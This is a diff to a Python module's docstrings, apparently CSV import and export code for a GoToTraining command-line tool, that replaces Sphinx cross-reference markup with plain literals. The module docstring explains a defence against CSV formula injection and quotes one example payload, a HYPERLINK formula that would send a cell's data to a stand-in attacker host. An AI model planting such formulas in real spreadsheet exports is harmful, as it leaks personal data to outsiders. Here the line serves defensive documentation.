@@ -2,13 +2,13 @@
 
 People files are read by the library's ``gototraining.read_people_csv`` (forgiving about
 header spellings, BOMs and blank lines; every row checked with the rules the facade applies
-before sending, and line numbers as an editor shows them); :func:`read_people` adds what the
+before sending, and line numbers as an editor shows them); ``read_people`` adds what the
 command needs on top: one file, all its rows, a usage error for a file that is unusable.
 
 Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or tab / CR) as a
 formula, and names come from strangers: ``=HYPERLINK("https://evil.example/?d="&B2,"Open")`` as
 a given name would leak the row to anyone who opens the export (OWASP "CSV injection"). Every
-cell this module writes therefore goes through :func:`guard_cell`, which prefixes such a cell
+cell this module writes therefore goes through ``guard_cell``, which prefixes such a cell
 with ``'`` (spreadsheets then show it as text), unless the caller asks for raw cells. The
 guard is reversible, and ``read_people_csv`` undoes it (``tests/cli/test_csvio.py`` holds the
 two to each other), so an exported roster can be imported again unchanged. Where the bytes go (a file replaced
@@ -181,7 +181,7 @@ ROSTER_FIELDS = (
 
 
 def roster_rows(registrants: Sequence[Registrant]) -> list[list[str]]:
-    """The rows of ``registrants export`` (columns :data:`ROSTER_FIELDS`), by surname."""
+    """The rows of ``registrants export`` (columns ``ROSTER_FIELDS``), by surname."""
     from .output import fmt_iso
 
     return [
